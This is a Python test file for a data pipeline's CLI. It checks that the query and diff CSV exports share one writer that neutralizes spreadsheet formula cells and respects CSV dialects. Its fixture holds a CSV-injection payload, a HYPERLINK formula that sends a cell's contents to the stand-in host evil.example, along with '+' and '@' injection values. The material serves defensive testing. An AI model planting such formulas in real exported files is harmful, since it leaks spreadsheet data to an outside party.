"""One CSV writer: `query --csv` and `diff --write` neutralize formula cells and
speak the dialects as the tables do (issue 15, finding 10)."""

from __future__ import annotations

import pandas as pd
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.export import csv as export_csv
from pipeline.export import frames, write_tables, writers
from pipeline.runs import Registry

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"отчёт")'


def svodka(*args: str):
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture()
def out_dir(tmp_path):
    out = tmp_path / "out"
    write_tables(frames({"persons": [
        {"person_id": "per_1", "name": "Ласкан О.Я.", "surname": "Ласкан", "initials": "О.Я."},
        {"person_id": "per_2", "name": FORMULA, "surname": "+79991234567", "initials": "@x"},
    ]}), out)
    return out


def test_the_tables_query_and_diff_share_one_writer():
    assert writers.write_csv is export_csv.write_csv
    assert writers.neutralize_formulas is export_csv.neutralize_formulas


def test_query_csv_neutralizes_formulas_as_the_tables_do(out_dir, tmp_path):
    target = tmp_path / "q.csv"
    svodka("query", "SELECT name, surname, initials FROM persons ORDER BY person_id", "--out", str(out_dir),
           "--csv", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # excel, like the tables by default
    df = pd.read_csv(target, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert df.loc[1].tolist() == ["'" + FORMULA, "'+79991234567", "'@x"]
    tables = pd.read_csv(out_dir / "persons.csv", sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert tables.loc[1, "name"] == df.loc[1, "name"]  # the very same cell as in persons.csv

    svodka("query", "SELECT name FROM persons ORDER BY person_id", "--out", str(out_dir), "--csv", str(target),
           "--dialect", "rfc4180")
    assert not target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert pd.read_csv(target, dtype=str)["name"].tolist() == ["Ласкан О.Я.", "'" + FORMULA]


def test_diff_write_neutralizes_formulas(tmp_path):
    cache = tmp_path / "cache"
    out = tmp_path / "out"
    out.mkdir()
    registry = Registry(cache)
    for i, name in enumerate(["Ласкан О.Я.", FORMULA]):
        pd.DataFrame({"person_id": ["per_1"], "name": [name]}).astype("string").to_parquet(out / "persons.parquet")
        registry.record("rules", out, {"persons": 1}, key=f"k{i}", content=f"c{i}", ok=1)
    registry.close()
    changes = tmp_path / "changes.csv"
    svodka("diff", "--out", str(out), "--cache-dir", str(cache), "--write", str(changes))
    assert changes.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = pd.read_csv(changes, sep=";", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    row = rows[rows.column == "name"].iloc[0]
    assert (row.before, row.after, row.row) == ("Ласкан О.Я.", "'" + FORMULA, "'" + FORMULA)

    svodka("diff", "--out", str(out), "--cache-dir", str(cache), "--write", str(changes), "--dialect", "rfc4180")
    rows = pd.read_csv(changes, dtype=str, keep_default_na=False)
    assert rows[rows.column == "name"].iloc[0].after == "'" + FORMULA
